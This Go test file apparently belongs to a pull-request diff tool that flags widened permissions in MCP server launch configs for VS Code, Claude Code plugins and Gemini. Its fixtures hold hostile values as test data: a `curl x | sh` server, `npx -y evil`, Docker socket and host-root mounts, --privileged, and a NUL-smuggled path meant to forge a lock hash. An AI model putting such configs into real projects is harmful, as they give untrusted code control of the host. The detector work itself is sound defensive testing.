package diff

import (
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"
)

// TestLaunchNewFormats: a server added or widened in a VS Code workspace
// file (settings.mcp) or a Claude Code plugin's manifest (mcpServers) is a
// widened row, loud where it is host control, like one in .mcp.json; a
// plugin's servers file, which is not read as a config, is a loud entry
// that cannot be judged, and editing it is a widened row.
func TestLaunchNewFormats(t *testing.T) {
	t.Parallel()
	const ws, plug = "team.code-workspace", "p/.claude-plugin/plugin.json"
	wsFile := func(servers string) string {
		return `{"folders": [{"path": "."}], "settings": {"mcp": {"servers": {` + servers + `}}}}`
	}
	plugFile := func(servers string) string { return `{"name": "p", "mcpServers": {` + servers + `}}` }
	for _, tc := range []struct {
		name, path, base, head string
		extraBase, extraHead   []File
		widened                int
		want                   []string // each a prefix of some row
	}{
		{"workspace: a bare server added", ws, wsFile(""), wsFile(`"x": {"command": "npx", "args": ["-y", "evil"]}`), nil, nil,
			1, []string{"widened launch!:  -> x: no sandbox"}},
		{"workspace: the engine socket mounted", ws, wsFile(dockerServer("d", "img")), wsFile(dockerServer("d", "-v", "/var/run/docker.sock:/s", "img")), nil, nil,
			1, []string{"widened fs!:  -> d: /var/run/docker.sock"}},
		// A folder outside the repository may be any path: the mount
		// and the folder itself are host control (they were a widened
		// row that is not loud, so fail-on loud passed "/").
		{"workspace: a mount of another folder", ws, wsFile(dockerServer("d", "img")),
			strings.Replace(wsFile(dockerServer("d", "-v", "${workspaceFolder}:/w", "img")), `"."`, `".."`, 1), nil, nil,
			3, []string{"widened fs!:  -> d: ${workspaceFolder}", "widened launch!:  -> d: workspace folder ..", "widened launch:  -> d: img"}},
		{"workspace: the folder moved to /", ws, wsFile(dockerServer("d", "-v", "${workspaceFolder}:/w", "img")),
			strings.Replace(wsFile(dockerServer("d", "-v", "${workspaceFolder}:/w", "img")), `"."`, `"/"`, 1), nil, nil,
			2, []string{"widened launch!:  -> d: workspace folder /"}},
		{"workspace: a folder inside the repository", ws, wsFile(dockerServer("d", "img")),
			strings.Replace(wsFile(dockerServer("d", "-v", "${workspaceFolder}:/w", "img")), `"."`, `"sub"`, 1), nil, nil,
			2, []string{"widened fs!:  -> d: ${workspaceFolder}", "widened launch:  -> d: img"}},
		{"plugin: a bare server added", plug, plugFile(""), plugFile(`"x": {"command": "${CLAUDE_PLUGIN_ROOT}/bin/x"}`), nil, nil,
			1, []string{"widened launch!:  -> x: no sandbox"}},
		{"plugin: privileged", plug, plugFile(dockerServer("d", "img")), plugFile(dockerServer("d", "--privileged", "img")), nil, nil,
			1, []string{"widened cap!:  -> d: --privileged"}},
		{"plugin: servers moved to a file", plug, plugFile(dockerServer("d", "img")), `{"name": "p", "mcpServers": "./servers.json"}`,
			nil, []File{{Path: "p/servers.json", Data: []byte(`{"d": {"command": "bash", "args": ["-c", "curl x | sh"]}}`)}},
			3, []string{"widened launch!:  -> d: no sandbox", "widened launch: d: docker -> d: shell"}},
		{"plugin: the servers file edited", plug, `{"mcpServers": "./servers.json"}`, `{"mcpServers": "./servers.json"}`,
			[]File{{Path: "p/servers.json", Data: []byte(`{}`)}}, []File{{Path: "p/servers.json", Data: []byte(`{"d": {"command": "npx", "args": ["evil"]}}`)}},
			1, []string{"widened launch!:  -> d: no sandbox"}},
		{"plugin: the servers file's docker server widened", plug, `{"mcpServers": ["./servers.json"]}`, `{"mcpServers": ["./servers.json"]}`,
			[]File{{Path: "p/servers.json", Data: []byte(`{"mcpServers": {` + dockerServer("d", "-v", "${CLAUDE_PLUGIN_ROOT}/data:/d:ro", "img") + `}}`)}},
			[]File{{Path: "p/servers.json", Data: []byte(`{"mcpServers": {` + dockerServer("d", "-v", "${CLAUDE_PLUGIN_ROOT}/data:/d", "-v", "/var/run/docker.sock:/s", "img") + `}}`)}},
			2, []string{"widened fs!:  -> d: /var/run/docker.sock", "widened fs: d: ${workspaceFolder}/data (ro) -> d: ${workspaceFolder}/data (rw)"}},
		{"plugin: the servers file unchanged", plug, `{"mcpServers": "./servers.json"}`, `{"mcpServers": "./servers.json"}`,
			[]File{{Path: "p/servers.json", Data: []byte(`{}`)}}, []File{{Path: "p/servers.json", Data: []byte(`{}`)}},
			0, nil},
		{"plugin: the servers file missing", plug, `{"mcpServers": "./servers.json"}`, `{"mcpServers": "./servers.json"}`,
			[]File{{Path: "p/servers.json", Data: []byte(`{}`)}}, nil,
			-1, []string{"widened launch:  -> mcpServers ./servers.json"}},
		{"gemini: a quoted serverCommand", ".gemini/settings.json", `{}`, `{"mcp": {"serverCommand": "docker run -i -v \"/:/h\" img"}}`, nil, nil,
			2, []string{"widened launch!:  -> mcp: unread command"}},
		// Two servers files that both define d: compared with itself,
		// each d was held against the base's last d, a widened row
		// forever; they pair in their order.
		{"plugin: two files of one name, unchanged", plug, `{"mcpServers": ["./a.json", "./b.json"]}`, `{"mcpServers": ["./a.json", "./b.json"]}`,
			twoFiles(dockerServer("d", "-v", "/var/run/docker.sock:/s", "img"), dockerServer("d", "img")),
			twoFiles(dockerServer("d", "-v", "/var/run/docker.sock:/s", "img"), dockerServer("d", "img")),
			0, nil},
		{"plugin: two files of one name, the second widened", plug, `{"mcpServers": ["./a.json", "./b.json"]}`, `{"mcpServers": ["./a.json", "./b.json"]}`,
			twoFiles(dockerServer("d", "img"), dockerServer("d", "img")),
			twoFiles(dockerServer("d", "img"), dockerServer("d", "--privileged", "img")),
			1, []string{"widened cap!:  -> d: --privileged"}},
		// VS Code versions that read the mcp setting through the
		// configuration service move mcpServers into servers.
		{"vscode: a server under mcpServers beside servers", ".vscode/mcp.json", `{"servers": {` + dockerServer("d", "img") + `}}`,
			`{"servers": {` + dockerServer("d", "img") + `}, "mcpServers": {"x": {"command": "npx", "args": ["-y", "evil"]}}}`, nil, nil,
			1, []string{"widened launch!:  -> x: no sandbox"}},
		{"vscode: servers and mcpServers of one name, unchanged", ".vscode/mcp.json",
			`{"servers": {` + dockerServer("d", "img") + `}, "mcpServers": {` + dockerServer("d", "--privileged", "img") + `}}`,
			`{"servers": {` + dockerServer("d", "img") + `}, "mcpServers": {` + dockerServer("d", "--privileged", "img") + `}}`, nil, nil,
			0, nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			side := func(s string, extra []File) *launchSide {
				ls := parseLaunch([]File{{Path: tc.path, Data: []byte(s)}})
				ls.applySettings(extra)
				return ls
			}
			out := compareLaunch(side(tc.base, tc.extraBase), side(tc.head, tc.extraHead))
			if len(out) != 1 {
				t.Fatalf("%d diffs", len(out))
			}
			rows := summary(out[0])
			counts, _ := Tally(out)
			if (tc.widened >= 0 && counts.Widened != tc.widened) || (tc.widened < 0 && counts.Widened == 0) {
				t.Errorf("widened %d, want %d:\n%s", counts.Widened, tc.widened, strings.Join(rows, "\n"))
			}
			for _, w := range tc.want {
				found := false
				for _, r := range rows {
					found = found || strings.HasPrefix(r, w)
				}
				if !found {
					t.Errorf("no row %q in:\n%s", w, strings.Join(rows, "\n"))
				}
			}
		})
	}
}

// twoFiles is a plugin's servers files a.json and b.json, each holding one
// server.
func twoFiles(a, b string) []File {
	return []File{{Path: "p/a.json", Data: []byte("{" + a + "}")}, {Path: "p/b.json", Data: []byte("{" + b + "}")}}
}

// TestPluginServersFilePlace: the rows of a plugin's servers file are at
// the manifest's mcpServers string, each naming the file's line; a file
// that does not parse fails the manifest closed there, with the file's
// place in the message.
func TestPluginServersFilePlace(t *testing.T) {
	t.Parallel()
	const plug = "p/.claude-plugin/plugin.json"
	manifest := "{\n  \"mcpServers\": \"./s.json\"\n}"
	side := func(servers string) *launchSide {
		ls := parseLaunch([]File{{Path: plug, Data: []byte(manifest)}})
		ls.applySettings([]File{{Path: "p/s.json", Data: []byte(servers)}})
		return ls
	}
	out := compareLaunch(side(`{}`), side("{\n\n  \"d\": {\"command\": \"docker\", \"args\": [\"run\", \"--privileged\", \"img\"]}}"))
	if len(out) != 1 || len(out[0].Changes) != 3 {
		t.Fatalf("%+v", out)
	}
	for _, c := range out[0].Changes {
		if c.Line != 2 || c.Col != 17 || !strings.Contains(c.Why, "p/s.json:3") || c.Loud != (c.Kind == "cap") {
			t.Errorf("%s row at %d:%d loud %t, why %q: want 2:17, naming p/s.json:3, loud for cap", c.Kind, c.Line, c.Col, c.Loud, c.Why)
		}
	}
	out = compareLaunch(side(`{}`), side("{\"d\": {\"command\": 1}}"))
	if len(out) != 1 || out[0].Status != StatusError || out[0].Error == nil || out[0].Error.Line != 2 ||
		!strings.Contains(out[0].Error.Message, "p/s.json:1:") || out[0].Error.Code != "LAUNCH_SHAPE" {
		t.Errorf("%+v", out[0].Error)
	}
}

// TestLaunchUnreadableFile: a file a launch config reads that is in the
// tree but could not be read (over the size limit) is an error of the
// config, on the head a failed row: it was an entry that cannot be
// judged with the same note on both sides, so editing an srt settings
// file or a plugin's servers file over the limit passed. A symbolic link
// out of the tree is still an entry that cannot be judged: what it leads
// to is no part of the pull request.
func TestLaunchUnreadableFile(t *testing.T) {
	t.Parallel()
	big := errors.New("file is 2000000 bytes, over the 1048576-byte limit; not read")
	link := fmt.Errorf("symbolic link points outside the repository; not read: %w", ErrLink)
	const plug = "p/.claude-plugin/plugin.json"
	srt := mcp(`"s": {"command": "srt", "args": ["-s", "./srt.json", "npx", "x"]}`)
	env := mcp(dockerServer("d", "--env-file", "./d.env", "img"))
	for _, c := range []struct {
		name, path, cfg, file string
		err                   error
		wantErr               bool
	}{
		{"srt settings over the limit", ".mcp.json", srt, "srt.json", big, true},
		{"plugin servers file over the limit", plug, `{"mcpServers": "./s.json"}`, "p/s.json", big, true},
		{"env file over the limit", ".mcp.json", env, "d.env", big, true},
		{"srt settings a link out of the tree", ".mcp.json", srt, "srt.json", link, false},
		{"plugin servers file a link out of the tree", plug, `{"mcpServers": "./s.json"}`, "p/s.json", link, false},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			side := func() *launchSide {
				ls := parseLaunch([]File{{Path: c.path, Data: []byte(c.cfg)}})
				ls.applySettings([]File{{Path: c.file, Err: c.err}})
				return ls
			}
			out := compareLaunch(side(), side())
			if len(out) != 1 {
				t.Fatalf("%d diffs", len(out))
			}
			md := out[0]
			if got := md.Status == StatusError && md.Error != nil && md.Error.Code == CodeRead && strings.Contains(md.Error.Message, c.file); got != c.wantErr {
				t.Errorf("status %s, error %+v; want an error naming %s: %t", md.Status, md.Error, c.file, c.wantErr)
			}
		})
	}
}

// TestLaunchHashFieldsApart: the launch hash a lock approves tells apart
// grants whose keys hold the bytes its fields are separated with: an srt
// allowWrite of one path with NULs in it ("/tmp/x", "true", "fs" and the
// Docker socket between them) hashed as /tmp/x and the socket, both
// writable, so the lock approving the first approved the second. A
// config without such bytes keeps the hash of the old text, so locks stay
// valid.
func TestLaunchHashFieldsApart(t *testing.T) {
	t.Parallel()
	cfg := mcp(`"s": {"command": "srt", "args": ["-s", "./srt.json", "npx", "x"]}`)
	hash := func(settings string) string {
		ls := parseLaunch([]File{{Path: ".mcp.json", Data: []byte(cfg)}})
		ls.applySettings([]File{{Path: "srt.json", Data: []byte(settings)}})
		if len(ls.errs) > 0 {
			t.Fatalf("%v", ls.errs)
		}
		return launchHash(ls.cfgs[".mcp.json"])
	}
	one := hash(`{"filesystem": {"allowWrite": ["/tmp/x\u0000true\u0000fs\u0000/var/run/docker.sock"]}}`)
	two := hash(`{"filesystem": {"allowWrite": ["/tmp/x", "/var/run/docker.sock"]}}`)
	if one == two {
		t.Errorf("one path with NULs and two paths hash alike: %s", one)
	}
	ls := parseLaunch([]File{{Path: ".mcp.json", Data: []byte(mcp(dockerServer("d", "-v", "/srv:/srv:ro", "img")))}})
	e := &ls.cfgs[".mcp.json"].Entries[0]
	old := fmt.Sprintf("%s\x00%s\x00%s\x00%s\x00%q", e.Kind, e.Command, e.URL, e.Settings, e.Args)
	for _, g := range e.Grants {
		old += fmt.Sprintf("\x00%s\x00%s\x00%t", g.Kind, g.Key, g.Write)
	}
	if fingerprint(e) != old {
		t.Errorf("a plain entry's fingerprint changed:\n%q\n%q", fingerprint(e), old)
	}
}

// TestLaunchFilesInAnyCase: a file a config names is the one a client on
// a case-insensitive file system (macOS, Windows) opens: ./SRT.json opens
// srt.json, ./Servers.json servers.json. They were looked up exactly, so
// the entry could not be judged on both sides however the file was
// edited; two files that match in case are an error.
func TestLaunchFilesInAnyCase(t *testing.T) {
	t.Parallel()
	srt := mcp(`"s": {"command": "srt", "args": ["-s", "./SRT.json", "npx", "x"]}`)
	const plug = "p/.claude-plugin/plugin.json"
	for _, c := range []struct {
		name, path, cfg string
		base, head      []File
		want            string // a row's prefix, or "error"
	}{
		{"srt settings", ".mcp.json", srt,
			[]File{{Path: "srt.json", Data: []byte(`{}`)}},
			[]File{{Path: "srt.json", Data: []byte(`{"filesystem": {"allowWrite": ["~"]}}`)}},
			"widened fs!:  -> s: ~ (rw)"},
		{"plugin servers file", plug, `{"mcpServers": "./Servers.json"}`,
			[]File{{Path: "p/servers.json", Data: []byte(dockerFile(dockerServer("x", "img")))}},
			[]File{{Path: "p/servers.json", Data: []byte(dockerFile(dockerServer("x", "--privileged", "img")))}},
			"widened cap!:  -> x: --privileged"},
		{"two files of one name in case", ".mcp.json", srt,
			[]File{{Path: "srt.json", Data: []byte(`{}`)}},
			[]File{{Path: "srt.json", Data: []byte(`{}`)}, {Path: "Srt.json", Data: []byte(`{}`)}},
			"error"},
		{"the exact name beside another in case", ".mcp.json", mcp(`"s": {"command": "srt", "args": ["-s", "./srt.json", "npx", "x"]}`),
			[]File{{Path: "srt.json", Data: []byte(`{}`)}},
			[]File{{Path: "srt.json", Data: []byte(`{}`)}, {Path: "SRT.json", Data: []byte(`{"filesystem": {"allowWrite": ["~"]}}`)}},
			"error"},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			side := func(extra []File) *launchSide {
				ls := parseLaunch([]File{{Path: c.path, Data: []byte(c.cfg)}})
				ls.applySettings(extra)
				return ls
			}
			out := compareLaunch(side(c.base), side(c.head))
			if len(out) != 1 {
				t.Fatalf("%d diffs", len(out))
			}
			if c.want == "error" {
				if out[0].Status != StatusError || out[0].Error.Code != CodeRead {
					t.Errorf("status %s, error %+v; want a READ error", out[0].Status, out[0].Error)
				}
				return
			}
			rows := summary(out[0])
			if !slices.ContainsFunc(rows, func(r string) bool { return strings.HasPrefix(r, c.want) }) {
				t.Errorf("no row %q in:\n%s", c.want, strings.Join(rows, "\n"))
			}
		})
	}
}

func dockerFile(servers string) string { return "{" + servers + "}" }

// TestLaunchUnreadableFileUnchanged: a file over the size limit that both
// sides hold with the same blob (git's id, known unread) is unchanged:
// the entry that cannot be judged, as before, not an error that fails
// every run; a different blob is the error.
func TestLaunchUnreadableFileUnchanged(t *testing.T) {
	t.Parallel()
	big := errors.New("file is 2000000 bytes, over the 1048576-byte limit; not read")
	cfg := []File{{Path: ".mcp.json", Data: []byte(mcp(`"s": {"command": "srt", "args": ["-s", "./srt.json", "npx", "x"]}`))}}
	for _, c := range []struct {
		name       string
		base, head string // the blob of srt.json on each side
		wantErr    bool
	}{
		{"the same blob", "b1", "b1", false},
		{"another blob", "b1", "b2", true},
		{"no blob (a directory side)", "", "", true},
	} {
		in := &Input{LaunchBase: cfg, LaunchHead: cfg,
			SettingsBase: []File{{Path: "srt.json", Blob: c.base, Err: big}},
			SettingsHead: []File{{Path: "srt.json", Blob: c.head, Err: big}}}
		out := compareLaunchInput(in)
		if len(out) != 1 {
			t.Fatalf("%s: %d diffs", c.name, len(out))
		}
		if got := out[0].Status == StatusError; got != c.wantErr {
			t.Errorf("%s: status %s, error %+v; want an error: %t", c.name, out[0].Status, out[0].Error, c.wantErr)
		}
	}
}
